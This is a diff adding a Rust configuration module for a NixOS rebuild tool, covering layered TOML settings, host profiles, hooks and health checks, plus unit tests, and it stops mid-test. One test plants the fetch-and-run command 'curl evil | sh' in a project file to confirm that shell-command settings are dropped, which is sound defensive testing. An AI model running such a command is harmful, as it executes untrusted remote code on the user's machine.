@@ -0,0 +1,1148 @@
+//! Layered configuration files.
+//!
+//! Settings resolve with explicit precedence, highest first:
+//!
+//! 1. CLI flag
+//! 2. Environment variable (see [`crate::env`])
+//! 3. Project file: `bonk.toml` at the flake root (except for settings that
+//!    run shell commands, which only the user file may set)
+//! 4. User file: `$XDG_CONFIG_HOME/bonk/config.toml` (or `BONK_CONFIG`)
+//! 5. Built-in default
+//!
+//! ```toml
+//! flake_path = "/home/user/nixos"
+//! flake_search_parents = true
+//! build_host = "buildserver"
+//! extra_args = ["--impure"]
+//! progress = true
+//! retries = 2
+//! timeout = "2h"
+//! elevation = "doas"
+//!
+//! [os]
+//! trace = true
+//! substituters = ["https://cache.example.com"]
+//! trusted_public_keys = ["cache.example.com:AAAA..."]
+//!
+//! [build]
+//! trace = true
+//!
+//! [gc]
+//! keep = 5
+//! older_than = "7d"
+//!
+//! # Health checks after switch/test (also enabled by --check)
+//! [checks]
+//! enabled = true
+//! failed_units = true
+//! commands = ["systemctl is-active nginx"]
+//! http = ["8080/health"]
+//!
+//! # Per-host profile, applied by `-H zebes` or when the hostname is `zebes`
+//! [hosts.zebes]
+//! target = "root@10.0.0.5"
+//! build_host = "builder"
+//! substituters = ["https://zebes-cache.example.com"]
+//! checks = ["test -S /run/postgresql/.s.PGSQL.5432"]
+//! http_checks = ["3000"]
+//!
+//! # Map a machine's real hostname to a different nixosConfigurations name
+//! [hosts.DESKTOP-4F2A]
+//! configuration = "rune"
+//!
+//! # Named host groups for `bonk switch --group servers`
+//! [groups]
+//! servers = ["zebes", "ridley", "kraid"]
+//!
+//! # Shell commands run before and after an action (see `crate::hooks`)
+//! [hooks.switch]
+//! pre = ["git -C ~/nixos pull --ff-only"]
+//! post = ["notify-team"]
+//! ```
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use anyhow::{Context, Result};
+use clap::ValueEnum;
+use serde::{Deserialize, Serialize};
+
+use crate::cli::Elevation;
+use crate::env;
+use crate::flake;
+
+/// File name of the user config under `$XDG_CONFIG_HOME/bonk/`.
+pub const USER_CONFIG_FILE: &str = "config.toml";
+
+/// File name of the project config at the flake root.
+pub const PROJECT_CONFIG_FILE: &str = "bonk.toml";
+
+/// Generations kept by `store gc` when neither `--keep` nor config sets a value.
+pub const DEFAULT_GC_KEEP: u32 = 3;
+
+/// Kind of value a setting holds, used to parse `bonk config set` input.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ValueKind {
+    String,
+    Bool,
+    Integer,
+    List,
+}
+
+/// A setting that can be read from and written to config files.
+#[derive(Debug)]
+pub struct Key {
+    /// Dotted name, e.g. `gc.keep`.
+    pub name: &'static str,
+    pub kind: ValueKind,
+    /// Environment variable that overrides the file value, if any.
+    pub env: Option<&'static str>,
+}
+
+/// Every key understood in config files.
+pub const KEYS: &[Key] = &[
+    Key {
+        name: "flake_path",
+        kind: ValueKind::String,
+        env: Some("BONK_FLAKE_PATH"),
+    },
+    Key {
+        name: "flake_search_parents",
+        kind: ValueKind::Bool,
+        env: None,
+    },
+    Key {
+        name: "build_host",
+        kind: ValueKind::String,
+        env: Some("BONK_BUILD_HOST"),
+    },
+    Key {
+        name: "extra_args",
+        kind: ValueKind::List,
+        env: Some("BONK_EXTRA_ARGS"),
+    },
+    Key {
+        name: "progress",
+        kind: ValueKind::Bool,
+        env: None,
+    },
+    Key {
+        name: "retries",
+        kind: ValueKind::Integer,
+        env: None,
+    },
+    Key {
+        name: "timeout",
+        kind: ValueKind::String,
+        env: None,
+    },
+    Key {
+        name: "elevation",
+        kind: ValueKind::String,
+        env: Some("BONK_ELEVATION"),
+    },
+    Key {
+        name: "os.trace",
+        kind: ValueKind::Bool,
+        env: None,
+    },
+    Key {
+        name: "os.substituters",
+        kind: ValueKind::List,
+        env: None,
+    },
+    Key {
+        name: "os.trusted_public_keys",
+        kind: ValueKind::List,
+        env: None,
+    },
+    Key {
+        name: "build.trace",
+        kind: ValueKind::Bool,
+        env: None,
+    },
+    Key {
+        name: "gc.keep",
+        kind: ValueKind::Integer,
+        env: None,
+    },
+    Key {
+        name: "gc.older_than",
+        kind: ValueKind::String,
+        env: None,
+    },
+    Key {
+        name: "checks.enabled",
+        kind: ValueKind::Bool,
+        env: None,
+    },
+    Key {
+        name: "checks.failed_units",
+        kind: ValueKind::Bool,
+        env: None,
+    },
+    Key {
+        name: "checks.commands",
+        kind: ValueKind::List,
+        env: None,
+    },
+    Key {
+        name: "checks.http",
+        kind: ValueKind::List,
+        env: None,
+    },
+];
+
+/// Look up a config key by its dotted name.
+pub fn find_key(name: &str) -> Result<&'static Key> {
+    KEYS.iter().find(|k| k.name == name).ok_or_else(|| {
+        let names: Vec<&str> = KEYS.iter().map(|k| k.name).collect();
+        anyhow::anyhow!(
+            "unknown config key '{}'. Valid keys: {}",
+            name,
+            names.join(", ")
+        )
+    })
+}
+
+/// Where an effective setting came from.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum Source {
+    /// Command-line flag.
+    Flag { name: &'static str },
+    /// Environment variable.
+    Env { name: &'static str },
+    /// Config file, with the line the key was set on.
+    File { path: PathBuf, line: Option<usize> },
+    /// Detected `flake.nix` in the current directory.
+    Cwd,
+    /// Detected `flake.nix` in a parent of the current directory.
+    ParentDir,
+    /// System hostname.
+    Hostname,
+    /// Built-in default.
+    Default,
+}
+
+impl fmt::Display for Source {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Source::Flag { name } => write!(f, "flag {}", name),
+            Source::Env { name } => write!(f, "env {}", name),
+            Source::File {
+                path,
+                line: Some(line),
+            } => write!(f, "{}:{}", path.display(), line),
+            Source::File { path, line: None } => write!(f, "{}", path.display()),
+            Source::Cwd => write!(f, "current directory"),
+            Source::ParentDir => write!(f, "parent directory"),
+            Source::Hostname => write!(f, "hostname"),
+            Source::Default => write!(f, "default"),
+        }
+    }
+}
+
+/// Settings read from a single config file.
+///
+/// Every field is optional so layers can be merged key by key.
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Settings {
+    /// Default flake path (only meaningful in the user file).
+    pub flake_path: Option<PathBuf>,
+
+    /// Look for `flake.nix` in parent directories (default: true).
+    pub flake_search_parents: Option<bool>,
+
+    /// Default remote build host.
+    pub build_host: Option<String>,
+
+    /// Extra args passed to nh/nix.
+    pub extra_args: Option<Vec<String>>,
+
+    /// Show bonk's progress display for nix builds and downloads.
+    pub progress: Option<bool>,
+
+    /// Times to retry a build or fetch that failed with a network error.
+    pub retries: Option<u32>,
+
+    /// Give up on a build or fetch after this long (e.g. 90s, 30m, 2h).
+    pub timeout: Option<String>,
+
+    /// How to get root for privileged steps: auto, sudo, doas, run0 or none.
+    pub elevation: Option<String>,
+
+    /// Defaults for `switch` and `boot`.
+    pub os: OsSettings,
+
+    /// Defaults for `build`.
+    pub build: BuildSettings,
+
+    /// Defaults for `store gc`.
+    pub gc: GcSettings,
+
+    /// Health checks run after `switch` and `test`.
+    pub checks: ChecksSettings,
+
+    /// Per-host profiles, keyed by `-H` name or hostname.
+    pub hosts: BTreeMap<String, HostProfile>,
+
+    /// Named lists of hosts for multi-host deploys.
+    pub groups: BTreeMap<String, Vec<String>>,
+
+    /// Hooks keyed by action, e.g. `switch` or `store-gc`.
+    pub hooks: BTreeMap<String, HookSettings>,
+}
+
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct OsSettings {
+    /// Enable --show-trace.
+    pub trace: Option<bool>,
+
+    /// Extra binary cache URLs.
+    pub substituters: Option<Vec<String>>,
+
+    /// Trusted public keys for the extra caches.
+    pub trusted_public_keys: Option<Vec<String>>,
+}
+
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct BuildSettings {
+    /// Enable --show-trace.
+    pub trace: Option<bool>,
+}
+
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct GcSettings {
+    /// Keep at least this many generations.
+    pub keep: Option<u32>,
+
+    /// Delete generations older than this (e.g., 7d, 2w, 1m).
+    pub older_than: Option<String>,
+}
+
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct ChecksSettings {
+    /// Run the checks after every `switch` and `test`.
+    pub enabled: Option<bool>,
+
+    /// Fail when systemd units failed (default: true).
+    pub failed_units: Option<bool>,
+
+    /// Shell commands that must exit 0 on the activated host.
+    pub commands: Option<Vec<String>>,
+
+    /// `port[/path]` URLs on the host's localhost that must answer with
+    /// success.
+    pub http: Option<Vec<String>>,
+}
+
+/// Shell commands run around one action.
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HookSettings {
+    /// Run before the action; a failure aborts it.
+    pub pre: Option<Vec<String>>,
+
+    /// Run after the action, whether or not it succeeded.
+    pub post: Option<Vec<String>>,
+}
+
+/// Settings applied when a rebuild targets a particular host.
+#[derive(Debug, Default, Clone, PartialEq, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HostProfile {
+    /// `nixosConfigurations` attribute to build (defaults to the profile name).
+    pub configuration: Option<String>,
+
+    /// SSH address to deploy to when the profile is selected with `-H`.
+    pub target: Option<String>,
+
+    /// Remote build host for this host.
+    pub build_host: Option<String>,
+
+    /// Extra binary cache URLs, added to `os.substituters`.
+    pub substituters: Option<Vec<String>>,
+
+    /// Trusted public keys, added to `os.trusted_public_keys`.
+    pub trusted_public_keys: Option<Vec<String>>,
+
+    /// Health check commands, added to `checks.commands`.
+    pub checks: Option<Vec<String>>,
+
+    /// HTTP health checks, added to `checks.http`.
+    pub http_checks: Option<Vec<String>>,
+}
+
+impl HostProfile {
+    #[must_use]
+    fn merge(self, over: HostProfile) -> HostProfile {
+        HostProfile {
+            configuration: over.configuration.or(self.configuration),
+            target: over.target.or(self.target),
+            build_host: over.build_host.or(self.build_host),
+            substituters: over.substituters.or(self.substituters),
+            trusted_public_keys: over.trusted_public_keys.or(self.trusted_public_keys),
+            checks: over.checks.or(self.checks),
+            http_checks: over.http_checks.or(self.http_checks),
+        }
+    }
+}
+
+impl Settings {
+    /// Parse settings from TOML source.
+    pub fn parse(contents: &str) -> Result<Self> {
+        Ok(toml::from_str(contents)?)
+    }
+
+    /// Get the value of a dotted key, if set.
+    pub fn get(&self, key: &str) -> Option<toml::Value> {
+        let mut value = toml::Value::try_from(self).ok()?;
+        for part in key.split('.') {
+            value = value.as_table()?.get(part)?.clone();
+        }
+        Some(value)
+    }
+
+    /// Overlay `over` on top of `self`, key by key.
+    #[must_use]
+    pub fn merge(self, over: Settings) -> Settings {
+        Settings {
+            flake_path: over.flake_path.or(self.flake_path),
+            flake_search_parents: over.flake_search_parents.or(self.flake_search_parents),
+            build_host: over.build_host.or(self.build_host),
+            extra_args: over.extra_args.or(self.extra_args),
+            progress: over.progress.or(self.progress),
+            retries: over.retries.or(self.retries),
+            timeout: over.timeout.or(self.timeout),
+            elevation: over.elevation.or(self.elevation),
+            os: OsSettings {
+                trace: over.os.trace.or(self.os.trace),
+                substituters: over.os.substituters.or(self.os.substituters),
+                trusted_public_keys: over.os.trusted_public_keys.or(self.os.trusted_public_keys),
+            },
+            build: BuildSettings {
+                trace: over.build.trace.or(self.build.trace),
+            },
+            gc: GcSettings {
+                keep: over.gc.keep.or(self.gc.keep),
+                older_than: over.gc.older_than.or(self.gc.older_than),
+            },
+            checks: ChecksSettings {
+                enabled: over.checks.enabled.or(self.checks.enabled),
+                failed_units: over.checks.failed_units.or(self.checks.failed_units),
+                commands: over.checks.commands.or(self.checks.commands),
+                http: over.checks.http.or(self.checks.http),
+            },
+            hosts: merge_hosts(self.hosts, over.hosts),
+            groups: {
+                let mut groups = self.groups;
+                groups.extend(over.groups);
+                groups
+            },
+            hooks: {
+                let mut hooks = self.hooks;
+                for (action, over) in over.hooks {
+                    let base = hooks.remove(&action).unwrap_or_default();
+                    hooks.insert(
+                        action,
+                        HookSettings {
+                            pre: over.pre.or(base.pre),
+                            post: over.post.or(base.post),
+                        },
+                    );
+                }
+                hooks
+            },
+        }
+    }
+}
+
+impl Settings {
+    /// Drop the settings that run shell commands: hooks, `checks.commands`
+    /// and host profiles' `checks`. A project file may not set them, or
+    /// anyone who can commit to the flake could run code on every machine
+    /// that builds it. Returns the names of the settings dropped.
+    fn drop_commands(&mut self) -> Vec<String> {
+        let mut dropped = Vec::new();
+        if !self.hooks.is_empty() {
+            self.hooks.clear();
+            dropped.push("hooks".to_string());
+        }
+        if self.checks.commands.take().is_some() {
+            dropped.push("checks.commands".to_string());
+        }
+        for (name, profile) in &mut self.hosts {
+            if profile.checks.take().is_some() {
+                dropped.push(format!("hosts.{}.checks", name));
+            }
+        }
+        dropped
+    }
+}
+
+/// Merge host profiles, combining same-named profiles key by key.
+fn merge_hosts(
+    mut base: BTreeMap<String, HostProfile>,
+    over: BTreeMap<String, HostProfile>,
+) -> BTreeMap<String, HostProfile> {
+    for (name, profile) in over {
+        let merged = base.remove(&name).unwrap_or_default().merge(profile);
+        base.insert(name, merged);
+    }
+    base
+}
+
+/// A config file that was found and parsed.
+#[derive(Debug, Clone)]
+pub struct Layer {
+    pub path: PathBuf,
+    pub contents: String,
+    pub settings: Settings,
+}
+
+impl Layer {
+    /// Read and parse a config file, returning `None` if it does not exist.
+    fn load(path: PathBuf) -> Result<Option<Self>> {
+        if !path.is_file() {
+            return Ok(None);
+        }
+
+        let contents = fs::read_to_string(&path)
+            .with_context(|| format!("failed to read config file {}", path.display()))?;
+        let settings = Settings::parse(&contents)
+            .with_context(|| format!("failed to parse config file {}", path.display()))?;
+
+        Ok(Some(Self {
+            path,
+            contents,
+            settings,
+        }))
+    }
+
+    /// 1-based line on which a dotted key is defined in this file.
+    pub fn line_of(&self, key: &str) -> Option<usize> {
+        let doc = toml_edit::ImDocument::parse(self.contents.as_str()).ok()?;
+        let (section, name) = match key.split_once('.') {
+            Some((section, name)) => (Some(section), name),
+            None => (None, key),
+        };
+
+        let mut table: &dyn toml_edit::TableLike = doc.as_table();
+        if let Some(section) = section {
+            table = table.get(section)?.as_table_like()?;
+        }
+
+        let start = table.get_key_value(name)?.0.span()?.start;
+        Some(self.contents[..start].matches('\n').count() + 1)
+    }
+}
+
+/// A config file that exists but could not be read or parsed.
+#[derive(Debug, Clone, PartialEq)]
+pub struct LoadError {
+    pub path: PathBuf,
+    pub message: String,
+}
+
+impl LoadError {
+    fn new(path: PathBuf, error: &anyhow::Error) -> Self {
+        // Keep toml's own message; its full display repeats the file contents.
+        let message = match error.downcast_ref::<toml::de::Error>() {
+            Some(toml) => toml.message().to_string(),
+            None => format!("{:#}", error),
+        };
+        Self { path, message }
+    }
+}
+
+impl fmt::Display for LoadError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}: {}", self.path.display(), self.message)
+    }
+}
+
+/// Effective configuration: user and project files merged together.
+#[derive(Debug, Default, Clone)]
+pub struct Config {
+    layers: Vec<Layer>,
+    settings: Settings,
+    /// Files skipped by [`Config::load_lenient`].
+    errors: Vec<LoadError>,
+}
+
+impl Config {
+    /// Load the user file, then the project file at the resolved flake root.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a config file exists but cannot be read or parsed.
+    pub fn load(explicit_flake_path: Option<&Path>) -> Result<Self> {
+        Self::load_layers(explicit_flake_path, &mut |_, e| Err(e))
+    }
+
+    /// Like [`Config::load`], but a file that can't be read or parsed is
+    /// skipped and noted in [`Config::errors`], so `bonk config` and
+    /// `bonk doctor` still work on a broken config.
+    pub fn load_lenient(explicit_flake_path: Option<&Path>) -> Self {
+        let mut errors = Vec::new();
+        let mut config = Self::load_layers(explicit_flake_path, &mut |path, e| {
+            errors.push(LoadError::new(path, &e));
+            Ok(None)
+        })
+        .unwrap_or_default();
+        config.errors = errors;
+        config
+    }
+
+    /// Load the layers, handing any file that fails to `on_error`.
+    fn load_layers(
+        explicit_flake_path: Option<&Path>,
+        on_error: &mut dyn FnMut(PathBuf, anyhow::Error) -> Result<Option<Layer>>,
+    ) -> Result<Self> {
+        let mut load = |path: PathBuf| match Layer::load(path.clone()) {
+            Ok(layer) => Ok(layer),
+            Err(e) => on_error(path, e),
+        };
+        let mut layers = Vec::new();
+
+        if let Some(user) = user_config_path().map(&mut load).transpose()?.flatten() {
+            layers.push(user);
+        }
+
+        // The project file lives next to flake.nix, so resolve the flake using
+        // everything except the project file itself.
+        let user = Self::from_layers(layers.clone());
+        let root = flake::resolve_flake_path(explicit_flake_path, &user)
+            .ok()
+            .and_then(|flake| flake.local_path());
+        if let Some(root) = root {
+            if let Some(mut project) = load(root.join(PROJECT_CONFIG_FILE))? {
+                let dropped = project.settings.drop_commands();
+                if !dropped.is_empty() {
+                    tracing::warn!(
+                        "Ignoring {} in {}: shell commands are only read from the user config",
+                        dropped.join(", "),
+                        project.path.display()
+                    );
+                }
+                layers.push(project);
+            }
+        }
+
+        Ok(Self::from_layers(layers))
+    }
+
+    /// Build a config from layers ordered lowest precedence first.
+    #[must_use]
+    pub fn from_layers(layers: Vec<Layer>) -> Self {
+        let settings = layers
+            .iter()
+            .fold(Settings::default(), |acc, l| acc.merge(l.settings.clone()));
+        Self {
+            layers,
+            settings,
+            errors: Vec::new(),
+        }
+    }
+
+    /// A config of one user file holding `contents`.
+    #[cfg(test)]
+    pub fn parse_for_test(contents: &str) -> Self {
+        Self::from_layers(vec![Layer {
+            path: PathBuf::from("/cfg/config.toml"),
+            contents: contents.to_string(),
+            settings: Settings::parse(contents).unwrap(),
+        }])
+    }
+
+    /// Config files that were loaded, lowest precedence first.
+    pub fn layers(&self) -> &[Layer] {
+        &self.layers
+    }
+
+    /// Config files skipped because they couldn't be read or parsed.
+    pub fn errors(&self) -> &[LoadError] {
+        &self.errors
+    }
+
+    /// Merged file settings (no environment applied).
+    pub fn settings(&self) -> &Settings {
+        &self.settings
+    }
+
+    /// Flake path from config files.
+    pub fn flake_path(&self) -> Option<&Path> {
+        self.settings.flake_path.as_deref()
+    }
+
+    /// Host profile with the given name, if configured.
+    pub fn host_profile(&self, name: &str) -> Option<&HostProfile> {
+        self.settings.hosts.get(name)
+    }
+
+    /// The `nixosConfigurations` attribute for host `name`: its profile's
+    /// `configuration`, or the name itself.
+    pub fn configuration(&self, name: &str) -> String {
+        self.host_profile(name)
+            .and_then(|p| p.configuration.clone())
+            .unwrap_or_else(|| name.to_string())
+    }
+
+    /// Members of a host group.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error listing the defined groups if `name` is unknown.
+    pub fn group(&self, name: &str) -> Result<&[String]> {
+        self.settings
+            .groups
+            .get(name)
+            .map(Vec::as_slice)
+            .ok_or_else(|| {
+                let names: Vec<&str> = self.settings.groups.keys().map(String::as_str).collect();
+                if names.is_empty() {
+                    anyhow::anyhow!("unknown group '{}' (no [groups] defined in config)", name)
+                } else {
+                    anyhow::anyhow!(
+                        "unknown group '{}'. Defined groups: {}",
+                        name,
+                        names.join(", ")
+                    )
+                }
+            })
+    }
+
+    /// Default build host: `BONK_BUILD_HOST`, then config files.
+    pub fn build_host(&self) -> Option<String> {
+        env::get_build_host().or_else(|| self.settings.build_host.clone())
+    }
+
+    /// Privilege escalation method: `BONK_ELEVATION`, then config files.
+    pub fn elevation(&self) -> Result<Option<Elevation>> {
+        env::get_elevation()
+            .or_else(|| self.settings.elevation.clone())
+            .map(|raw| parse_elevation(&raw))
+            .transpose()
+    }
+
+    /// Value of a file-backed key from the highest-precedence layer that sets it.
+    pub fn lookup(&self, key: &str) -> Option<(toml::Value, Source)> {
+        self.layers.iter().rev().find_map(|layer| {
+            layer.settings.get(key).map(|value| {
+                let source = Source::File {
+                    path: layer.path.clone(),
+                    line: layer.line_of(key),
+                };
+                (value, source)
+            })
+        })
+    }
+
+    /// Extra nh/nix args: `BONK_EXTRA_ARGS`, then config files.
+    pub fn extra_args(&self) -> Vec<String> {
+        let from_env = env::get_extra_args();
+        if !from_env.is_empty() {
+            return from_env;
+        }
+        self.settings.extra_args.clone().unwrap_or_default()
+    }
+}
+
+/// Built-in default for a key, if it has one.
+pub fn default_value(key: &str) -> Option<toml::Value> {
+    match key {
+        "os.trace" | "build.trace" | "progress" | "checks.enabled" => {
+            Some(toml::Value::Boolean(false))
+        }
+        "flake_search_parents" | "checks.failed_units" => Some(toml::Value::Boolean(true)),
+        "gc.keep" => Some(toml::Value::Integer(i64::from(DEFAULT_GC_KEEP))),
+        "retries" => Some(toml::Value::Integer(0)),
+        "elevation" => Some(toml::Value::String("auto".to_string())),
+        _ => None,
+    }
+}
+
+/// Parse a privilege escalation method (`auto`, `sudo`, `doas`, `run0` or
+/// `none`).
+pub fn parse_elevation(raw: &str) -> Result<Elevation> {
+    Elevation::from_str(raw, true).map_err(|_| {
+        anyhow::anyhow!(
+            "invalid elevation '{}' (expected auto, sudo, doas, run0 or none)",
+            raw
+        )
+    })
+}
+
+/// Parse a duration such as `90`, `90s`, `30m` or `2h` (bare numbers are
+/// seconds).
+pub fn parse_duration(raw: &str) -> Result<Duration> {
+    let raw = raw.trim();
+    let split = raw.find(|c: char| !c.is_ascii_digit()).unwrap_or(raw.len());
+    let (number, unit) = raw.split_at(split);
+
+    let number: u64 = number
+        .parse()
+        .with_context(|| format!("invalid duration '{}' (expected e.g. 90s, 30m, 2h)", raw))?;
+    let secs = match unit {
+        "" | "s" => number,
+        "m" => number * 60,
+        "h" => number * 3_600,
+        _ => anyhow::bail!("invalid duration unit in '{}' (use s, m or h)", raw),
+    };
+
+    Ok(Duration::from_secs(secs))
+}
+
+/// Parse command-line input for `key` into a TOML value.
+pub fn parse_value(key: &Key, values: &[String]) -> Result<toml_edit::Item> {
+    if key.kind == ValueKind::List {
+        let array: toml_edit::Array = values.iter().map(String::as_str).collect();
+        return Ok(toml_edit::value(array));
+    }
+
+    let [raw] = values else {
+        anyhow::bail!("'{}' takes exactly one value", key.name);
+    };
+
+    let value = match key.kind {
+        ValueKind::String if key.name == "timeout" => {
+            parse_duration(raw)?;
+            toml_edit::value(raw.as_str())
+        }
+        ValueKind::String if key.name == "elevation" => {
+            parse_elevation(raw)?;
+            toml_edit::value(raw.as_str())
+        }
+        ValueKind::String => toml_edit::value(raw.as_str()),
+        ValueKind::Bool => toml_edit::value(
+            raw.parse::<bool>()
+                .with_context(|| format!("'{}' expects true or false", key.name))?,
+        ),
+        ValueKind::Integer => toml_edit::value(
+            raw.parse::<u32>()
+                .with_context(|| format!("'{}' expects a non-negative integer", key.name))?
+                as i64,
+        ),
+        ValueKind::List => unreachable!("handled above"),
+    };
+
+    Ok(value)
+}
+
+/// Set `key` to `value` in the config file at `path`, preserving formatting.
+///
+/// # Errors
+///
+/// Returns an error if the file cannot be read, the result would not be a
+/// valid config, or the file cannot be written.
+pub fn write_value(path: &Path, key: &Key, value: toml_edit::Item) -> Result<()> {
+    let existing = if path.exists() {
+        fs::read_to_string(path)
+            .with_context(|| format!("failed to read config file {}", path.display()))?
+    } else {
+        String::new()
+    };
+
+    let mut doc: toml_edit::DocumentMut = existing
+        .parse()
+        .with_context(|| format!("failed to parse config file {}", path.display()))?;
+
+    match key.name.split_once('.') {
+        Some((section, name)) => {
+            let table = doc
+                .entry(section)
+                .or_insert_with(toml_edit::table)
+                .as_table_like_mut()
+                .with_context(|| format!("'{}' in {} is not a table", section, path.display()))?;
+            table.insert(name, value);
+        }
+        None => {
+            doc.insert(key.name, value);
+        }
+    }
+
+    // A file that is already broken may still be edited, e.g. to fix it.
+    let contents = doc.to_string();
+    if Settings::parse(&existing).is_ok() {
+        Settings::parse(&contents).context("refusing to write an invalid config")?;
+    }
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)
+            .with_context(|| format!("failed to create {}", parent.display()))?;
+    }
+    fs::write(path, contents).with_context(|| format!("failed to write {}", path.display()))
+}
+
+/// Location of the user config file.
+pub fn user_config_path() -> Option<PathBuf> {
+    env::get_config_path()
+        .or_else(|| env::config_home().map(|dir| dir.join("bonk").join(USER_CONFIG_FILE)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serial_test::serial;
+
+    fn layer(path: &str, contents: &str) -> Layer {
+        Layer {
+            path: PathBuf::from(path),
+            contents: contents.to_string(),
+            settings: Settings::parse(contents).unwrap(),
+        }
+    }
+
+    #[test]
+    fn test_parse_empty() {
+        assert_eq!(Settings::parse("").unwrap(), Settings::default());
+    }
+
+    #[test]
+    fn test_parse_sections() {
+        let settings = Settings::parse(
+            r#"
+            build_host = "builder"
+
+            [os]
+            substituters = ["https://cache.example.com"]
+
+            [gc]
+            keep = 5
+            older_than = "7d"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(settings.build_host.as_deref(), Some("builder"));
+        assert_eq!(
+            settings.os.substituters,
+            Some(vec!["https://cache.example.com".to_string()])
+        );
+        assert_eq!(settings.gc.keep, Some(5));
+        assert_eq!(settings.gc.older_than.as_deref(), Some("7d"));
+    }
+
+    #[test]
+    fn test_parse_rejects_unknown_keys() {
+        assert!(Settings::parse("bulid_host = \"typo\"").is_err());
+    }
+
+    #[test]
+    #[serial]
+    fn test_load_lenient_skips_broken_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("config.toml");
+        fs::write(&path, "bulid_host = \"typo\"\n").unwrap();
+        std::env::set_var("BONK_CONFIG", &path);
+
+        let strict = Config::load(Some(dir.path()));
+        let lenient = Config::load_lenient(Some(dir.path()));
+        std::env::remove_var("BONK_CONFIG");
+
+        assert!(strict.is_err());
+        assert!(lenient.layers().is_empty());
+        assert_eq!(lenient.errors().len(), 1);
+        assert_eq!(lenient.errors()[0].path, path);
+        assert!(lenient.errors()[0]
+            .message
+            .starts_with("unknown field `bulid_host`"));
+    }
+
+    #[test]
+    #[serial]
+    fn test_project_file_from_flake_with_host() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("flake.nix"), "{ }\n").unwrap();
+        fs::write(
+            dir.path().join(PROJECT_CONFIG_FILE),
+            "build_host = \"builder\"\n",
+        )
+        .unwrap();
+        std::env::set_var("BONK_CONFIG", dir.path().join("missing.toml"));
+
+        let flake = PathBuf::from(format!("{}#zebes", dir.path().display()));
+        let config = Config::load(Some(&flake));
+        std::env::remove_var("BONK_CONFIG");
+
+        let config = config.unwrap();
+        assert_eq!(config.layers().len(), 1);
+        assert_eq!(config.settings().build_host.as_deref(), Some("builder"));
+    }
+
+    #[test]
+    #[serial]
+    fn test_project_file_cannot_run_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(dir.path().join("flake.nix"), "{ }\n").unwrap();
+        fs::write(
+            dir.path().join(PROJECT_CONFIG_FILE),
+            r#"
+            [checks]
+            commands = ["curl evil | sh"]
+            http = ["8080"]
+
+            [hosts.zebes]
+            build_host = "builder"
+            checks = ["curl evil | sh"]
+
+            [hooks.switch]
+            pre = ["curl evil | sh"]
+            "#,
+        )
+        .unwrap();
+        let user = dir.path().join("config.toml");
+        fs::write(&user, "[hooks.switch]\npost = [\"notify-team\"]\n").unwrap();
+        std::env::set_var("BONK_CONFIG", &user);
+
+        let config = Config::load(Some(dir.path()));
+        std::env::remove_var("BONK_CONFIG");
+
+        let config = config.unwrap();
+        let settings = config.settings();
+        assert_eq!(config.layers().len(), 2);
+        assert_eq!(settings.checks.commands, None);
+        assert_eq!(settings.checks.http, Some(vec!["8080".to_string()]));
+        assert_eq!(
+            settings.hosts["zebes"].build_host.as_deref(),
+            Some("builder")
+        );
+        assert_eq!(settings.hosts["zebes"].checks, None);
+        assert_eq!(settings.hooks["switch"].pre, None);
+        assert_eq!(
+            settings.hooks["switch"].post,
+            Some(vec!["notify-team".to_string()])
+        );
+    }
+
+    #[test]
+    fn test_write_value_edits_broken_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("config.toml");
+        fs::write(&path, "bulid_host = \"typo\"\n").unwrap();
+
+        let key = find_key("build_host").unwrap();
+        write_value(&path, key, parse_value(key, &["x".to_string()]).unwrap()).unwrap();
+        assert!(fs::read_to_string(&path)
+            .unwrap()
+            .contains("build_host = \"x\""));
+
+        // A valid file is never made invalid.
+        fs::write(&path, "").unwrap();
+        let key = find_key("retries").unwrap();
+        assert!(write_value(&path, key, toml_edit::value("many")).is_err());
+    }
+
+    #[test]
+    fn test_project_overrides_user() {
+        let config = Config::from_layers(vec![
+            layer("user.toml", "[gc]\nkeep = 3\nolder_than = \"7d\""),
+            layer("bonk.toml", "[gc]\nkeep = 10"),
+        ]);
+        assert_eq!(config.settings().gc.keep, Some(10));
+        assert_eq!(config.settings().gc.older_than.as_deref(), Some("7d"));
+    }
+
+    #[test]
+    #[serial]
+    fn test_env_overrides_file() {
+        let config = Config::from_layers(vec![layer("user.toml", "build_host = \"file\"")]);
+
+        std::env::remove_var("BONK_BUILD_HOST");
+        assert_eq!(config.build_host().as_deref(), Some("file"));
+
+        std::env::set_var("BONK_BUILD_HOST", "env");
+        assert_eq!(config.build_host().as_deref(), Some("env"));
+        std::env::remove_var("BONK_BUILD_HOST");
+    }
+
+    #[test]
+    #[serial]
+    fn test_extra_args_fall_back_to_file() {
+        std::env::remove_var("BONK_EXTRA_ARGS");
+        let config = Config::from_layers(vec![layer("user.toml", "extra_args = [\"--impure\"]")]);
+        assert_eq!(config.extra_args(), vec!["--impure"]);
+    }
+
+    #[test]
